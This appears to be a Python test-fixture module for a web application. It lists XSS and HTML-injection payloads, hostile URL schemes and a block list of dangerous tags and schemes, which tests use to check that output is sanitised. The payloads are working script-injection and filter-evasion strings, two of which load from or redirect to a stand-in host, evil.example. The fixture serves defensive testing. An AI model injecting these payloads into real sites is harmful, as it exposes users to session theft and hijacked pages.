"""Hostile texts: XSS and HTML-injection payloads that editors or an import might carry.

Each payload carries the marker ``XSS`` in what it would run (``alert('XSS')``,
``onerror=...``), so a test can look for the marker in whatever a page or the
API hands out: as text it is harmless, inside an element, attribute or URL that
a browser runs it is not.
"""

from __future__ import annotations

PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/XSS.js></SCRIPT>",
    "\"><script>alert('XSS')</script>",
    "'><img src=x onerror=alert('XSS')>",
    '" onmouseover="alert(\'XSS\')" x="',
    "' autofocus onfocus='alert(\"XSS\")",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')><script>alert('XSS')</script></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<a href=\"javascript:alert('XSS')\">XSS link</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS')\">XSS entity link</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    "<object data=\"data:text/html,<script>alert('XSS')</script>\"></object>",
    '<base href="https://evil.example/XSS/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\')">',
    "</textarea></title></noscript><script>alert('XSS')</script>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "\u202e<script>alert('XSS')</script>\u202d",
    "\uff1cscript\uff1ealert('XSS')\uff1c/script\uff1e",
    "{{ request.META }}{% debug %}{{7*7}} XSS-template",
    "${alert('XSS')} #{alert('XSS')}",
]
# A marker that only shows up when a payload's script-bearing part is live.
MARKER = "XSS"
# URL fields: what must be refused (import) or dropped (links the site and API hand out).
HOSTILE_URLS = [
    "javascript:alert('XSS')",
    " JaVaScRiPt:alert('XSS')",
    "java\tscript:alert('XSS')",
    "data:text/html,<script>alert('XSS')</script>",
    "vbscript:msgbox('XSS')",
]
# Elements and attributes that run code or load something; none may be injected.
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "base",
    "meta",
    "svg",
    "math",
    "form",
    "input",
    "textarea",
    "body",
    "link",
    "img",
    "details",
    "animate",
}
DANGEROUS_URL_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


def hostile_text(index: int) -> str:
    """Payload number ``index`` (wrapping), so that each field gets a different one."""
    return PAYLOADS[index % len(PAYLOADS)]
